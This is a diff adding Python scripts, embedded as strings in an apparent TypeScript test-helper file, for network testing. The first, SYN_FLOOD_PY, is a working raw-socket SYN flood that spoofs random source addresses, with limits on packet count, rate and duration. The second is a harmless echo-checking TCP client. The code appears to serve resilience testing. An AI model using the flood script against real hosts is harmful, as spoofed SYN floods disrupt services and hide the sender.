@@ -59,3 +59,66 @@ while s.recv(65536):
 s.close()
 sys.stdout.write('done %d bytes in %.1f s\n' % (sent, time.monotonic() - t0)); sys.stdout.flush()
 `;
+
+/**
+ * A bounded SYN flood: `count` SYNs to dst:port from random sources
+ * a.b.c-255.1-254 (srcBase "a.b.c"), at most `pps` per second and
+ * for at most `maxS` seconds, over a raw socket. Prints "sent N in S s".
+ * argv: dst port srcBase count pps maxS
+ */
+export const SYN_FLOOD_PY = String.raw`
+import sys, socket, struct, random, time
+dst, port, net, count, pps, max_s = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
+a, b, c = (int(x) for x in net.split('.'))
+d = socket.inet_aton(dst)
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+def csum(data):
+    if len(data) % 2: data += b'\0'
+    t = sum(struct.unpack('!%dH' % (len(data) // 2), data))
+    while t >> 16: t = (t & 0xffff) + (t >> 16)
+    return ~t & 0xffff
+sent, t0, batch = 0, time.monotonic(), 64
+while sent < count and time.monotonic() - t0 < max_s:
+    for _ in range(min(batch, count - sent)):
+        src = bytes((a, b, random.randint(c, 255), random.randint(1, 254)))
+        sport, seq = random.randint(1024, 65535), random.getrandbits(32)
+        tcp = struct.pack('!HHIIBBHHH', sport, port, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
+        tcp = tcp[:16] + struct.pack('!H', csum(src + d + struct.pack('!BBH', 0, 6, 20) + tcp)) + tcp[18:]
+        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, 0, 0x4000, 64, 6, 0, src, d)
+        s.sendto(ip + tcp, (dst, 0))
+        sent += 1
+    ahead = sent / pps - (time.monotonic() - t0)
+    if ahead > 0: time.sleep(ahead)
+print('sent %d in %.2f s' % (sent, time.monotonic() - t0), flush=True)
+`;
+
+/**
+ * A long-lived TCP conversation: connect to host:port, send a numbered line
+ * every `intervalMs` for `seconds`, and check each echo. Prints "connected"
+ * once, then "done <exchanges> <errors> <max gap ms>". argv: host port seconds intervalMs
+ */
+export const ECHO_TALKER_PY = String.raw`
+import sys, socket, time
+host, port, secs, iv = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4]) / 1000
+s = socket.create_connection((host, port), timeout=5)
+s.settimeout(5)
+print('connected', flush=True)
+f = s.makefile('rb')
+n = errors = 0
+gap = 0.0
+t0 = last = time.monotonic()
+while time.monotonic() - t0 < secs:
+    msg = b'line %d\n' % n
+    try:
+        s.sendall(msg)
+        if f.readline() != msg: errors += 1
+    except Exception:
+        errors += 1
+        break
+    now = time.monotonic()
+    gap = max(gap, now - last)
+    last = now
+    n += 1
+    time.sleep(iv)
+print('done %d %d %d' % (n, errors, gap * 1000), flush=True)
+`;
